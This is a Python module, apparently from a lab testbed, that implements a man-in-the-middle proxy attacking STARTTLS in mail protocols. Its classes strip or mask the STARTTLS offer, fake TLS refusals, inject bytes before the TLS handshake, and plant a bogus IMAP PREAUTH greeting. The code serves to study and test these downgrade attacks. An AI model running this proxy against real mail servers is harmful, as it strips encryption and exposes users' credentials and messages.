"""The attacker between client and server: a TCP proxy that edits what it passes on.

A tap between the client and the proxy sees the attack. Each attack is a class with three hooks; what a hook returns
is passed on in place of what came.
"""

from __future__ import annotations

import base64
import re
import socket
import threading
from typing import Final

from . import network

_STARTTLS_COMMAND: Final = re.compile(rb"^(?:(\S+) )?(STARTTLS|STLS)\r\n$", re.IGNORECASE)


class Attack:
    """Passes everything on unchanged. Subclasses override what they attack."""

    def __init__(self) -> None:
        self.to_client = b""  # octets of our own for the client, sent before anything else

    def connected(self, server: socket.socket) -> None:
        """Called once the connection to the real server stands."""

    def from_server(self, data: bytes) -> bytes:
        """What the client gets to see of the server's octets."""
        return data

    def from_client(self, data: bytes) -> bytes:
        """What the server gets to see of the client's octets."""
        return data


class StripKeyword(Attack):
    """Takes the STARTTLS keyword out of what the server offers."""

    def from_server(self, data: bytes) -> bytes:
        data = re.sub(rb"250-STARTTLS\r\n", b"", data)
        data = re.sub(rb"(?m)^STLS\r\n", b"", data)
        data = re.sub(rb'(?m)^"STARTTLS"\r\n', b"", data)
        return re.sub(rb" STARTTLS\b", b"", data)


class MaskKeyword(Attack):
    """Writes over the keyword and the banner, as some firewalls do; answers STARTTLS itself."""

    def from_server(self, data: bytes) -> bytes:
        data = re.sub(rb"250-STARTTLS\r\n", b"250-XXXXXXXA\r\n", data)
        return re.sub(rb"^220 .*\r\n", lambda m: b"220 " + b"*" * (len(m.group()) - 6) + b"\r\n", data)

    def from_client(self, data: bytes) -> bytes:
        if _STARTTLS_COMMAND.match(data):
            self.to_client = b"500 #5.5.1 command not recognized\r\n"
            return b""
        return data


class Refuse(Attack):
    """Leaves the offer alone and refuses when the client takes it up."""

    def from_client(self, data: bytes) -> bytes:
        match = _STARTTLS_COMMAND.match(data)
        if not match:
            return data
        if match.group(2).upper() == b"STLS":
            self.to_client = b"-ERR TLS not available due to temporary reason\r\n"
        elif match.group(1):
            self.to_client = match.group(1) + b" NO TLS not available due to temporary reason\r\n"
        else:
            self.to_client = b"454 4.7.0 TLS not available due to temporary reason\r\n"
        return b""


class InjectReply(Attack):
    """Puts octets of its own behind the server's grant of TLS, before the handshake."""

    def __init__(self, injected: bytes) -> None:
        super().__init__()
        self.injected = injected
        self._asked = False

    def from_client(self, data: bytes) -> bytes:
        self._asked = self._asked or bool(_STARTTLS_COMMAND.match(data))
        return data

    def from_server(self, data: bytes) -> bytes:
        if not self._asked or data[:1] == b"\x16":
            return data
        self._asked = False
        return data + self.injected


class Preauth(Attack):
    """Greets an IMAP client with PREAUTH, so that it never asks for TLS; behind it, the attacker is logged in."""

    def __init__(self, user: str, password: str) -> None:
        super().__init__()
        self._login = b"x1 AUTHENTICATE PLAIN " + base64.b64encode(f"\0{user}\0{password}".encode()) + b"\r\n"

    def connected(self, server: socket.socket) -> None:
        server.recv(4096)
        server.sendall(self._login)
        while b"x1 OK" not in server.recv(4096):
            continue
        self.to_client = b"* PREAUTH [CAPABILITY IMAP4rev1 LITERAL+ IDLE] Logged in as anna\r\n"


class Proxy:
    """Listens on one address and port, and attacks each connection with a fresh instance of ``attack``."""

    def __init__(self, address: str, port: int, target: tuple[str, int], attack: type[Attack], *args: object) -> None:
        self._target, self._attack, self._args = target, attack, args
        ready = threading.Event()
        network.thread_in(network.SERVERS, self._listen, address, port, ready)
        if not ready.wait(5):
            raise network.LabError(f"the proxy cannot listen on {address}:{port}")

    def close(self) -> None:
        """Stop listening."""
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _listen(self, address: str, port: int, ready: threading.Event) -> None:
        self._listener = socket.create_server((address, port), reuse_port=True)
        ready.set()
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:  # closed: the sample is made
                return
            network.thread_in(network.SERVERS, self._serve, client)

    def _serve(self, client: socket.socket) -> None:
        attack = self._attack(*self._args)
        with client, socket.create_connection(self._target) as server:
            attack.connected(server)
            if attack.to_client:
                client.sendall(attack.to_client)
                attack.to_client = b""
            back = network.thread_in(network.SERVERS, _pump, server, client, attack.from_server)
            while data := _receive(client):
                data = attack.from_client(data)
                if attack.to_client:
                    client.sendall(attack.to_client)
                    attack.to_client = b""
                if data:
                    server.sendall(data)
            try:
                server.shutdown(socket.SHUT_WR)
            except OSError:  # the server was first to close
                return
            back.join(3)


def _pump(source: socket.socket, sink: socket.socket, edit: object) -> None:
    while data := _receive(source):
        sink.sendall(edit(data))  # type: ignore[operator]
    try:
        sink.shutdown(socket.SHUT_WR)
    except OSError:  # the client was first to close
        return


def _receive(end: socket.socket) -> bytes:
    try:
        return end.recv(65536)
    except OSError:
        return b""
